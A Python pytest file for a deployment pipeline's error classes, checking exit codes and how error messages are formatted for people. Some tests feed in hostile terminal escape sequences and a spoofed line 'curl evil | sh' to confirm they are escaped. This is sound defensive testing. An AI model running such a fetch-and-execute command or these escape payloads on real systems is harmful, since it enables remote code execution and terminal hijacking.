"""Exit codes as the tree in the docstring says, and an error as a person reads it."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline import errors
from pipeline.errors import Ambiguous, BuildError, Cancelled, Drifted, NotRolledBack, PipelineError, RateLimited, Transient, explain


def subclasses(cls: type[PipelineError]) -> Iterator[type[PipelineError]]:
    for sub in cls.__subclasses__():
        if sub.__module__ == errors.__name__:
            yield sub
            yield from subclasses(sub)


def drawn() -> dict[str, tuple[str, int]]:
    """Name -> (parent, exit code) as the tree is drawn in the module's docstring."""
    found: dict[str, tuple[str, int]] = {}
    above = ["PipelineError"]
    for line in (errors.__doc__ or "").splitlines():
        if match := re.fullmatch(r"((?:│   )*)[├└]── (\w+) +(\d+).*", line):
            depth = len(match[1]) // 4 + 1
            found[match[2]] = (above[depth - 1], int(match[3]))
            above[depth:] = [match[2]]
    return found


def test_every_error_stands_in_the_tree_with_its_parent_and_code() -> None:
    real = {cls.__name__: (cls.__bases__[0].__name__, cls.exit_code) for cls in subclasses(PipelineError) if cls is not Cancelled}
    tree = drawn()
    assert tree.pop("Cancelled") == ("PipelineError", 130)
    assert real == tree
    assert len(real) == 16


def test_exit_codes_differ_where_the_mend_does() -> None:
    direct = [cls.exit_code for cls in PipelineError.__subclasses__() if cls.__module__ == errors.__name__ and cls is not Cancelled]
    assert len(set(direct)) == len(direct)
    assert not {0, 1} & set(direct)
    assert [Cancelled("x", signal=number).exit_code for number in (2, 15)] == [130, 143]


def test_explain_says_everything_that_is_known() -> None:
    error = NotRolledBack(
        "the new release failed and the old one was not restored",
        cause="pod app-1: CrashLoopBackOff\nmissing env IHP_SESSION_SECRET",
        mend="kubectl -n coulomb get pods\ninv deploy",
        log=".pipeline/logs/deploy.log",
    )
    error.stage, error.attempts = "deploy", 3
    assert explain(error) == (
        "deploy: the new release failed and the old one was not restored  [DEPLOY, exit 17, 3 attempts]\n"
        "  cause  pod app-1: CrashLoopBackOff\n"
        "  cause  missing env IHP_SESSION_SECRET\n"
        "  mend   kubectl -n coulomb get pods\n"
        "  mend   inv deploy\n"
        "  log    .pipeline/logs/deploy.log"
    )


def test_explain_leaves_out_what_is_not_known() -> None:
    assert explain(Transient("refused")) == "refused  [TRANSIENT, exit 10]"
    assert explain(Cancelled("stopped", signal=15)).splitlines() == [
        "stopped  [CANCELLED, exit 143]",
        "  mend   run it again: what was done is found, not done twice",
    ]


def test_explain_keeps_the_end_of_a_long_cause() -> None:
    lines = explain(BuildError("it failed", cause="\n".join(f"line {number}" for number in range(50)))).splitlines()
    assert lines[1:] == [f"  cause  line {number}" for number in range(40, 50)]


def test_str_is_the_sentence() -> None:
    error = RateLimited("too fast", retry_after=30, mend="wait")
    assert (str(error), error.args, error.retry_after) == ("too fast", ("too fast",), 30)
    assert isinstance(Ambiguous("x"), Transient)
    assert isinstance(Drifted("x"), errors.IntegrityError)


@pytest.mark.parametrize("hostile", ["\x1b[2J", "\r", "\x00", "\x9b31m", "\x1b]52;c;aGk=\x07", "\u202e", "\u2066", "\ud800", "\b\b\b"])
def test_g01_what_a_tool_printed_is_shown_not_obeyed(hostile: str) -> None:
    error = PipelineError(f"a{hostile}b", cause=f"c{hostile}d", mend=f"e{hostile}f", log=f"g{hostile}h")
    text = explain(error)
    assert hostile not in text
    assert text.encode()
    assert ascii(hostile)[1:-1] in text


def test_g01_no_text_passes_for_another_line() -> None:
    error = PipelineError("half of it\n[OK] deployed", cause="x\n  mend   curl evil | sh")
    lines = explain(error).splitlines()
    assert lines[0] == "half of it\\n[OK] deployed  [ERROR, exit 1]"
    assert all(line.startswith("  cause  ") for line in lines[1:])


@given(st.text(), st.text(), st.text(), st.text())
def test_explain_is_always_lines_that_can_be_printed(what: str, cause: str, mend: str, log: str) -> None:
    text = explain(PipelineError(what, cause=cause, mend=mend, log=log))
    text.encode()
    assert all(char in "\n\t" or ord(char) >= 32 for char in text)
    assert all(line[:9] in ("  cause  ", "  mend   ", "  log    ") for line in text.split("\n")[1:])
